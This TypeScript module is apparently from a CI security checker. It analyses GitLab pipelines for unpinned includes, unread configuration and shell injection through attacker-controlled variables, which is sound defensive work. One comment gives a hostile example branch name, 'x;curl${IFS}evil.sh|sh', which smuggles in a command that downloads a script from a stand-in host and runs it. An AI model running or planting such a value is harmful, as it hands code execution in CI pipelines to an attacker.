import type { CiWorkflow, WorkflowJob } from '../../../src/core/evidence.js'
import { commandWords, type ShellScript, type ShellWord } from '../../../src/core/shell-command.js'

/** A GitLab `include:` entry as the collector records it. */
export type PipelineInclude = NonNullable<CiWorkflow['includes']>[number]

/** True for a GitLab pipeline: includes instead of actions, and variables expanded by the shell. */
export function isGitLabPipeline(workflow: CiWorkflow): boolean {
  return workflow.resourceKind === 'GitLabPipeline'
}

/**
 * Why GitLab would let the job fail without failing the pipeline when it exits with one of these
 * codes, or undefined when a failure fails the pipeline. The collector records `allow_failure: true`
 * (written, set by a rule, or a manual job's default) as `true`, and the mapping form as
 * `exit_codes: [1, 137]`.
 */
export function failureAllowed(job: WorkflowJob, exitCodes: readonly number[]): string | undefined {
  const setting = job.continueOnError
  if (setting === 'true') {
    return `job ${job.id} has allow_failure: true (written, set by a rule, or a manual job's default), so its failure does not fail the pipeline`
  }
  const listed = /^exit_codes:\s*\[(.*)\]$/.exec(setting ?? '')?.[1]
  if (listed === undefined) return undefined
  const allowed = listed.split(',').map((code) => Number(code.trim()))
  const covered = exitCodes.filter((code) => allowed.includes(code))
  return covered.length === 0
    ? undefined
    : `job ${job.id} has allow_failure: exit_codes [${allowed.join(', ')}], which covers exit code ${covered.join(', ')}, so its failure does not fail the pipeline`
}

/** GitLab's container scanning template (`Security/` or `Jobs/`, `.latest` too) or catalog component. */
export function isContainerScanningInclude(include: PipelineInclude): boolean {
  if (include.type === 'template') {
    return /^(?:Security|Jobs)\/Container-Scanning(?:\.latest)?\.gitlab-ci\.yml$/.test(include.location)
  }
  return include.type === 'component' && /\/components\/container-scanning\/[^/]+$/.test(include.location)
}

/** Names an include for messages: `project acme/ci:/build.yml@main (line 3)`. */
export function describeInclude(include: PipelineInclude): string {
  const ref = include.ref === undefined ? '' : `@${include.ref}`
  return `${include.type} ${include.location}${ref} (line ${include.line})`
}

/**
 * The includes whose configuration no collected evidence holds: another project's file, a component, a
 * remote URL, a GitLab template, or a local file that is not among the collected pipelines (a glob
 * never matches one). The jobs they add, and what the pipeline's own jobs inherit from them through
 * `extends`, were never read: a check must not pass a pipeline on the part it saw.
 */
export function unreadIncludes(workflow: CiWorkflow, collected: readonly CiWorkflow[]): PipelineInclude[] {
  const files = collected.map((other) => other.file)
  return (workflow.includes ?? []).filter((include) => {
    if (include.type !== 'local') return true
    const location = include.location.replace(/^\/+/, '')
    return !files.some((file) => file === location || file.endsWith(`/${location}`))
  })
}

const commitSha = /^[0-9a-f]{40}$/i

export type IncludePin = { state: 'exempt' | 'pinned' } | { state: 'unpinned'; reason: string }

/**
 * Whether an include names immutable content. Local files are reviewed with the pipeline and templates
 * ship with GitLab itself, like `actions/*`; another project must be included at a commit SHA, a
 * component at `@<commit SHA>`, and a remote URL, which serves whatever its host serves, only with
 * `integrity:` (GitLab 17.9 and later). Groups in `trusted` (top-level, lower case) are exempt.
 */
export function includePin(include: PipelineInclude, trusted: ReadonlySet<string>): IncludePin {
  switch (include.type) {
    case 'local':
    case 'template':
      return { state: 'exempt' }
    case 'remote':
      return include.integrity !== undefined
        ? { state: 'pinned' }
        : {
            state: 'unpinned',
            reason:
              'a remote URL cannot be pinned to a commit; GitLab fetches whatever it serves at each run',
          }
    case 'project': {
      const group = include.location.split('/')[0]?.toLowerCase() ?? ''
      if (trusted.has(group)) return { state: 'exempt' }
      if (include.ref !== undefined && commitSha.test(include.ref)) return { state: 'pinned' }
      return {
        state: 'unpinned',
        reason:
          include.ref === undefined
            ? 'no ref, so it follows the default branch'
            : `ref ${include.ref} is a branch or tag, which can be moved`,
      }
    }
    case 'component': {
      // host/group/…/name: the group is the first segment after the host.
      const group = include.location.split('/')[1]?.toLowerCase() ?? ''
      if (trusted.has(group)) return { state: 'exempt' }
      if (include.ref !== undefined && commitSha.test(include.ref)) return { state: 'pinned' }
      return {
        state: 'unpinned',
        reason:
          include.ref === undefined
            ? 'no version'
            : `version ${include.ref} is a tag or moving alias, not a commit SHA`,
      }
    }
  }
}

/**
 * Predefined variables whose value anyone who can push a branch or open a merge request chooses:
 * free text and ref names (a branch may be called `x;curl${IFS}evil.sh|sh`). SHAs, ids and slugs are safe.
 */
export const attackerControlledVariables: readonly string[] = [
  'CI_MERGE_REQUEST_TITLE',
  'CI_MERGE_REQUEST_DESCRIPTION',
  'CI_MERGE_REQUEST_SOURCE_BRANCH_NAME',
  'CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME',
  'CI_COMMIT_MESSAGE',
  'CI_COMMIT_TITLE',
  'CI_COMMIT_DESCRIPTION',
  'CI_COMMIT_AUTHOR',
  'CI_COMMIT_TAG_MESSAGE',
  'CI_COMMIT_BRANCH',
  'CI_COMMIT_REF_NAME',
  'CI_COMMIT_TAG',
]

const shells = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash'])

/** Variables from `names` the shell expands in a word (outside single quotes). */
function expandedVariables(
  word: Pick<ShellWord, 'variables'> | undefined,
  names: ReadonlySet<string>,
): string[] {
  return (word?.variables ?? []).filter((name) => names.has(name))
}

function programName(word: ShellWord | undefined): string {
  const text = word?.text ?? ''
  return text.slice(text.lastIndexOf('/') + 1)
}

/** A variable the shell runs as code, and how: `eval`, `sh -c`, a pipe or a heredoc into a shell. */
export interface ShellInjection {
  variable: string
  /** The attacker-controlled variable its value came from, when it is a copy. */
  from?: string
  via: string
}

/**
 * Reads a job's parsed script lines in order (one shell session, as GitLab runs them) and returns where
 * an attacker-controlled variable is run as code. GitLab hands variables to the shell unexpanded, so
 * `echo "$CI_COMMIT_MESSAGE"` is data; only a second round of parsing (`eval`, `sh -c "…"`, `… | sh`,
 * an unquoted heredoc fed to a shell) turns the value into commands. Variables assigned from such a
 * value (in `variables:` or the script) count as well. Scripts that were not parsed yield nothing: the
 * caller must not read that as safe.
 */
export function findShellInjections(
  scripts: readonly (ShellScript | undefined)[],
  env: Readonly<Record<string, string>>,
): ShellInjection[][] {
  // Each tainted name with the attacker-controlled variable it holds.
  const origins = new Map(attackerControlledVariables.map((name) => [name, name]))
  const tainted = new Set(origins.keys())
  const taint = (name: string, word: Pick<ShellWord, 'variables'>): void => {
    const source = expandedVariables(word, tainted)[0]
    const origin = source === undefined ? undefined : origins.get(source)
    if (origin === undefined) return
    origins.set(name, origin)
    tainted.add(name)
  }
  const injection = (variable: string, via: string): ShellInjection => {
    const origin = origins.get(variable)
    return origin === undefined || origin === variable ? { variable, via } : { variable, from: origin, via }
  }
  for (const [name, value] of Object.entries(env)) {
    taint(name, { variables: [...value.matchAll(/\$\{?([A-Za-z_]\w*)/g)].flatMap((match) => match[1] ?? []) })
  }
  return scripts.map((script) => {
    const found: ShellInjection[] = []
    if (script?.parsed !== true) return found
    for (const command of script.commands) {
      for (const assignment of command.assignments) taint(assignment.name, assignment.value)
      const args = commandWords(command)
      const program = programName(args[0])
      if (program === 'eval') {
        for (const word of args.slice(1)) {
          for (const variable of expandedVariables(word, tainted)) found.push(injection(variable, 'eval'))
        }
      }
      // `sh -c "…"` anywhere in the command, so `docker run img sh -c "…"` counts too; the words after
      // the command string are positional parameters (`sh -c 'echo "$1"' _ "$X"`), which are safe.
      args.forEach((word, index) => {
        const shell = programName(word)
        if (!shells.has(shell)) return
        let flag = index + 1
        while (flag < args.length && (args[flag]?.text ?? '').startsWith('-')) {
          if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(args[flag]?.text ?? '')) {
            for (const variable of expandedVariables(args[flag + 1], tainted)) {
              found.push(injection(variable, `${shell} -c`))
            }
            return
          }
          flag++
        }
      })
      if (!shells.has(program) || args.some((word) => /^-[a-zA-Z]*c/.test(word.text))) continue
      // `… | sh`: what earlier commands of the pipeline print is run as a script.
      if (command.position > 0) {
        const earlier = script.commands.filter(
          (other) => other.pipeline === command.pipeline && other.position < command.position,
        )
        for (const other of earlier) {
          for (const word of other.words) {
            for (const variable of expandedVariables(word, tainted)) {
              found.push(injection(variable, `a pipe into ${program}`))
            }
          }
        }
      }
      // `sh <<EOF`: an unquoted heredoc is expanded before the shell reads it as a script.
      for (const redirect of command.redirects) {
        for (const variable of expandedVariables(redirect.heredoc, tainted)) {
          found.push(injection(variable, `a heredoc into ${program}`))
        }
      }
    }
    return found
  })
}
